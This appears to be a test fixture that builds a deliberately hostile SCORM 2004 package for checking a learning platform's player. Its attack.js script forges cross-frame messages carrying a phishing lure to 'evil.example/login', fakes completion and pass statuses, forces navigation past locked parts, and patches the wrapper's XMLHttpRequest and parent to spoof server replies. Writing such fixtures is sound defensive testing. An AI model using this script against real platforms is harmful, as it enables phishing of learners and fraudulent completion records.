import type { ZipEntrySpec } from "./zip-writer";

// a scorm 2004 package of three parts taken in order (controlMode choice="false" flow="true"),
// whose first sco is hostile: its script (attack.js, on the content origin like every package
// script) tries to make the platform page show its words, claim a completion the server never
// recorded, and open parts the learner may not open yet. the other two are plain scos.

export const HOSTILE_TEXT = "Your session has expired. Sign in again at https://evil.example/login";

const MANIFEST = `<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="hostile-package" version="1"
  xmlns="http://www.imsglobal.org/xsd/imscp_v1p1"
  xmlns:adlcp="http://www.adlnet.org/xsd/adlcp_v1p3"
  xmlns:imsss="http://www.imsglobal.org/xsd/imsss">
  <metadata><schema>ADL SCORM</schema><schemaversion>2004 3rd Edition</schemaversion></metadata>
  <organizations default="org">
    <organization identifier="org">
      <title>A package that attacks the platform page</title>
      <item identifier="part_one" identifierref="r1"><title>Part one</title></item>
      <item identifier="part_two" identifierref="r2"><title>Part two</title></item>
      <item identifier="part_three" identifierref="r3"><title>Part three</title></item>
      <imsss:sequencing><imsss:controlMode choice="false" flow="true"/></imsss:sequencing>
    </organization>
  </organizations>
  <resources>
    <resource identifier="r1" type="webcontent" adlcp:scormType="sco" href="one.html">
      <file href="one.html"/><file href="attack.js"/>
    </resource>
    <resource identifier="r2" type="webcontent" adlcp:scormType="sco" href="two.html">
      <file href="two.html"/><file href="plain.js"/>
    </resource>
    <resource identifier="r3" type="webcontent" adlcp:scormType="sco" href="three.html">
      <file href="three.html"/><file href="plain.js"/>
    </resource>
  </resources>
</manifest>`;

const page = (title: string, script: string) => `<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>${title}</title></head>
<body><h1>${title}</h1><p id="state">Loading</p><script src="${script}"></script></body></html>`;

const PLAIN = `(function () {
  window.parent.API_1484_11.Initialize("");
  document.getElementById("state").textContent = "Ready";
})();`;

const ATTACK = `(function () {
  var EVIL = ${JSON.stringify(HOSTILE_TEXT)};
  var wrapper = window.parent;
  var api = wrapper.API_1484_11;
  api.Initialize("");
  var itemId = "part_one";

  function forged() {
    return [
      { source: "scorm-player", itemId: itemId, type: "error", message: EVIL },
      { source: "scorm-player", itemId: itemId, type: "error", code: "session_ended", message: EVIL },
      { source: "scorm-player", itemId: itemId, type: "status", completion: "completed", success: "passed", satisfied: true },
      { source: "scorm-player", itemId: itemId, type: "status", satisfied: true },
      { source: "scorm-player", itemId: itemId, type: "finished", navRequest: "continue" },
      { source: "scorm-player", itemId: itemId, type: "finished", navRequest: "{target=part_three}choice" },
      { source: "scorm-player", itemId: "part_three", type: "finished", navRequest: null },
    ];
  }

  // 1. straight to the platform page from this frame
  function postDirectly() {
    forged().forEach(function (m) {
      window.top.postMessage(m, "*");
      window.parent.parent.postMessage(m, "*");
    });
  }

  // 2. a fake server answer, so the wrapper itself reports a save, a completion or an error
  function withFakeServer(status, reply, fn) {
    var Real = wrapper.XMLHttpRequest;
    wrapper.XMLHttpRequest = function () {
      this.status = status;
      this.responseText = JSON.stringify(reply);
      this.open = function () {};
      this.setRequestHeader = function () {};
      this.send = function () {};
    };
    try {
      return fn();
    } finally {
      wrapper.XMLHttpRequest = Real;
    }
  }
  function fakeServer() {
    var commit = function () {
      return api.Commit("");
    };
    return [
      withFakeServer(200, { ok: true, applied: true, completion: "completed", success: "passed", satisfied: true }, commit),
      withFakeServer(401, { ok: false, error: EVIL }, commit),
      withFakeServer(500, { ok: false, error: EVIL, errors: [{ code: 101, element: "x", message: EVIL }] }, commit),
    ];
  }

  // 3. any message at all from the wrapper's window: its window.parent is replaceable, so the
  // wrapper's own postMessage call is pointed at a function that posts what this script chose
  function postThroughWrapper(messages) {
    var realParent = wrapper.parent;
    var top = window.top;
    (messages || forged()).forEach(function (m) {
      wrapper.parent = { postMessage: wrapper.Reflect.apply.bind(null, top.postMessage, top, [m, "*"]) };
      try {
        withFakeServer(200, { ok: true, applied: true, completion: "incomplete", success: "unknown", satisfied: false }, function () {
          return api.Commit("");
        });
      } finally {
        wrapper.parent = realParent;
      }
    });
  }

  window.attack = { postDirectly: postDirectly, fakeServer: fakeServer, postThroughWrapper: postThroughWrapper };
  document.getElementById("state").textContent = "Ready";
})();`;

export function hostilePackage(): ZipEntrySpec[] {
  return [
    { name: "imsmanifest.xml", data: MANIFEST },
    { name: "one.html", data: page("Part one", "attack.js") },
    { name: "attack.js", data: ATTACK },
    { name: "two.html", data: page("Part two", "plain.js") },
    { name: "three.html", data: page("Part three", "plain.js") },
    { name: "plain.js", data: PLAIN },
  ];
}
